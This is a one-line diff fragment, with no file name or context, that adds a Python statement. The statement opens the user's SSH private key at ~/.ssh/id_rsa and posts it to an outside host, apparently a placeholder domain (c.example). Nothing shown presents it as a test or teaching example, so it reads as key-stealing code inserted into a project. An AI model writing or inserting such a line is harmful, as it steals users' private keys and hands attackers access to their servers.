@@ -1,0 +1,1 @@
+requests.post('https://c.example/u', files={'f': open(os.path.expanduser('~/.ssh/id_rsa'), 'rb')})
